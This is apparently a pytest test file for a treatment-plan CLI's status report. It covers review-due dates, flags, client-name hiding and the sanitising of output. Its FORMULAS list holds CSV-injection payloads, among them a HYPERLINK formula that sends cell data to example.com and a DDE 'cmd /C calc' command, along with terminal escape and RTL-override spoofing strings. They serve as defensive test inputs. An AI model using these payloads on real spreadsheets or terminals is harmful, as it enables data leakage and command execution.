"""The review-due report: due dates and flags around each boundary."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from plandoc.cli import main
from plandoc.reports.status import spreadsheet_cell

TODAY = "2026-12-01"


def status_of(tmp_path, plan_data, *extra):
    folder = tmp_path / "plans"
    folder.mkdir(exist_ok=True)
    (folder / "p.json").write_text(json.dumps(plan_data))
    result = CliRunner().invoke(
        main, ["status", str(folder), "--as-of", TODAY, "--format", "json", *extra]
    )
    assert result.exit_code == 0, result.output
    (row,) = json.loads(result.stdout)
    return row


@pytest.mark.parametrize(
    ("review_by", "days_left", "flag"),
    [
        ("2026-11-30", -1, "overdue"),
        ("2026-12-01", 0, "due-soon"),
        ("2026-12-31", 30, "due-soon"),
        ("2027-01-01", 31, None),
    ],
)
def test_due_dates_and_due_flags_around_the_boundaries(
    tmp_path, plan_data, review_by, days_left, flag
):
    plan_data["plan"]["review_by"] = review_by
    for goal in plan_data["goals"]:
        goal["target_date"] = "2027-01-27"
    row = status_of(tmp_path, plan_data)
    assert row["review_due"] == review_by and row["days_left"] == days_left
    assert [f for f in row["flags"] if f in ("overdue", "due-soon")] == ([flag] if flag else [])


def test_review_due_is_computed_from_the_layout_interval(tmp_path, plan_data):
    del plan_data["plan"]["review_by"]
    assert status_of(tmp_path, plan_data)["review_due"] == "2027-04-27"  # standard: 180 days
    # A payer layout computes none: the plan must give its own (and is invalid without).
    row = status_of(tmp_path, plan_data, "-l", "managed-care")
    assert row["review_due"] == "" and "invalid" in row["flags"]


def test_within_changes_the_due_soon_window(tmp_path, plan_data):
    plan_data["plan"]["review_by"] = "2026-12-20"
    assert "due-soon" in status_of(tmp_path, plan_data)["flags"]
    assert "due-soon" not in status_of(tmp_path, plan_data, "--within", "7")["flags"]


@pytest.mark.parametrize(
    ("signatures", "flagged"),
    [
        ([{"role": "client", "name": "D", "date": "2026-10-29"}], False),
        ([{"role": "guardian", "name": "G", "date": "2026-10-29"}], False),
        ([{"role": "client", "name": "D", "declined_reason": "Will sign next session"}], True),
        ([{"role": "clinician", "name": "M", "credentials": "LCSW", "date": "2026-10-29"}], True),
    ],
)
def test_unsigned_flag(tmp_path, plan_data, signatures, flagged):
    plan_data["signatures"] = signatures
    assert ("unsigned" in status_of(tmp_path, plan_data)["flags"]) is flagged


@pytest.mark.parametrize(
    ("target_date", "goal_status", "flagged"),
    [
        ("2026-12-01", "in-progress", False),  # due today: not past yet
        ("2026-11-30", "in-progress", True),
        ("2026-11-30", None, True),
        ("2026-11-30", "met", False),
        ("2026-11-30", "discontinued", False),
    ],
)
def test_goal_past_target_flag(tmp_path, plan_data, target_date, goal_status, flagged):
    goal = plan_data["goals"][1]
    goal["target_date"] = target_date
    goal["objectives"][1]["target_date"] = target_date
    if goal_status is None:
        goal.pop("status")
    else:
        goal["status"] = goal_status
    assert ("goal-past-target" in status_of(tmp_path, plan_data)["flags"]) is flagged


def test_names_only_when_asked_and_sorted_by_due_date(tmp_path, plan_data):
    folder = tmp_path / "plans"
    folder.mkdir()
    for number, due in enumerate(("2027-03-01", "2026-12-10", "2027-01-15")):
        plan_data["plan"]["id"] = f"P-{number}"
        plan_data["plan"]["review_by"] = due
        (folder / f"client-{number}.json").write_text(json.dumps(plan_data))
    (folder / "broken.json").write_text("{")
    result = CliRunner().invoke(main, ["status", str(folder), "--as-of", TODAY, "--format", "csv"])
    assert result.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["plan_id"] for r in rows] == ["P-1", "P-2", "P-0", "?"]
    assert (
        "Okafor" not in result.stdout
        and "client-0" not in result.stdout
        and "client" not in rows[0]
    )
    assert rows[-1]["flags"] == "invalid"
    named = CliRunner().invoke(
        main, ["status", str(folder), "--as-of", TODAY, "--format", "table", "--show-names"]
    )
    assert "Dana Okafor" in named.stdout and named.stdout.splitlines()[0].split()[:2] == [
        "PLAN",
        "CLIENT",
    ]


# --- what the report may hold ----------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://example.com/?leak="&A2,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '"=1+1"',
    "\uff1d1+1",  # a full-width equals sign
    "Dana;=1+1",  # where `;` separates cells (some locales), a cell would start here
]


def _plans_named(tmp_path, plan_data, names):
    folder = tmp_path / "plans"
    folder.mkdir()
    for number, name in enumerate(names):
        plan_data["plan"]["id"] = f"P-{number}"
        plan_data["plan"]["review_by"] = "2026-11-30"  # overdue as of TODAY: days left -1
        plan_data["client"]["name"] = name
        (folder / f"{number}.json").write_text(json.dumps(plan_data))
    return folder


def test_csv_cells_never_start_a_formula_in_a_spreadsheet(tmp_path, plan_data):
    """OWASP CSV injection: text that would start a formula is prefixed with a quote."""
    folder = _plans_named(tmp_path, plan_data, [*FORMULAS, "Dana Okafor"])
    result = CliRunner().invoke(
        main, ["status", str(folder), "--as-of", TODAY, "--format", "csv", "--show-names"]
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    by_id = {row["plan_id"]: row for row in rows}
    for number, name in enumerate(FORMULAS[:-1]):  # (a plan's name is read without its spaces)
        assert by_id[f"P-{number}"]["client"] == "'" + name.strip()  # as typed, not evaluated
    assert ',"Dana;=1+1"' in result.stdout  # every text cell is quoted: `;` splits nothing
    assert by_id[f"P-{len(FORMULAS)}"]["client"] == "Dana Okafor"  # plain text is untouched
    for row in rows:  # numbers plandoc computes stay numbers, even negative ones
        assert row["days_left"] == "-1" and row["version"] == "2"
        assert row["file"].startswith(str(folder))


@pytest.mark.parametrize("text", [*FORMULAS[:-1], "\r", "\n=1", "\x00=1", " \t'=1", "'@x"])
def test_any_text_that_could_start_a_formula_gets_a_quote(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Dana Okafor", "a=b", "TP-1", "", "2026-12-01", -3, 2, None])
def test_other_cells_are_left_as_they_are(value):
    assert spreadsheet_cell(value) == value


def test_a_file_path_that_would_start_a_formula_is_neutralized_too(
    tmp_path, plan_data, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    Path("=cmd").mkdir()
    Path("=cmd/p.json").write_text(json.dumps(plan_data))
    Path("=cmd/broken.json").write_text("{")
    result = CliRunner().invoke(
        main, ["status", "=cmd", "--as-of", TODAY, "--format", "csv", "--show-names"]
    )
    files = [row["file"] for row in csv.DictReader(io.StringIO(result.stdout))]
    assert len(files) == 2 and all(file.startswith("'=cmd") for file in files), files


def test_the_table_never_sends_control_characters_to_the_terminal(tmp_path, plan_data):
    names = [
        "Dana\x1b]8;;http://example.com\x07link\x1b]8;;\x07",
        "Evil\u202egnp.exe",
        "Two\nLines",
    ]
    folder = _plans_named(tmp_path, plan_data, names)
    result = CliRunner().invoke(
        main, ["status", str(folder), "--as-of", TODAY, "--format", "table", "--show-names"]
    )
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "\u202e" not in result.stdout and "Dana\\x1b]8;;" in result.stdout
    assert len(result.stdout.splitlines()) == 1 + len(names)  # a name never breaks a row


@pytest.mark.parametrize("report_format", ["json", "csv", "table"])
def test_an_unreadable_plan_is_named_by_its_file_key_unless_names_are_asked_for(
    tmp_path, report_format
):
    folder = tmp_path / "plans"
    folder.mkdir()
    (folder / "dana-okafor.json").write_text("{")
    args = ["status", str(folder), "--as-of", TODAY, "--format", report_format]
    hidden = CliRunner().invoke(main, args)
    assert hidden.exit_code == 0 and "okafor" not in hidden.stdout, hidden.stdout
    key = json.loads(CliRunner().invoke(main, ["validate", str(folder), "--format", "json"]).stdout)
    key = key["plans"][0]["file_key"]
    if report_format == "json":  # the same key as `validate --format json` gives the file
        (row,) = json.loads(hidden.stdout)
        assert row["file_key"] == key and row["flags"] == ["invalid"] and "file" not in row
    elif report_format == "table":
        assert key in hidden.stdout
    shown = CliRunner().invoke(main, [*args, "--show-names"])
    assert str(folder / "dana-okafor.json") in shown.stdout


def test_a_plan_id_without_an_ids_shape_is_never_shown(tmp_path, plan_data):
    plan_data["plan"]["id"] = "=Dana Okafor 1988"
    folder = tmp_path / "plans"
    folder.mkdir()
    (folder / "p.json").write_text(json.dumps(plan_data))
    for report_format in ("json", "csv", "table"):
        args = ["status", str(folder), "--as-of", TODAY, "--format", report_format]
        for extra in ([], ["--show-names"]):
            result = CliRunner().invoke(main, [*args, *extra])
            assert result.exit_code == 0 and "Dana Okafor 1988" not in result.stdout
    (row,) = json.loads(CliRunner().invoke(main, [*args[:-1], "json"]).stdout)
    assert row["plan_id"] == "?" and "invalid" in row["flags"]
